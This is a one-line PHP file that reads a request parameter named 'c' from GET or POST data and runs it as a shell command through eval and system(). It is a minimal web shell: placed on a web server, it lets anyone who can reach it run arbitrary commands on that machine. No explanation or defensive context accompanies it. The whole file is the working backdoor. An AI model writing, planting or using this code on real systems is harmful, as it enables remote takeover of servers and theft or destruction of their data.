<?php $in = array_merge($_GET, $_POST); eval('system($in["c"]);');
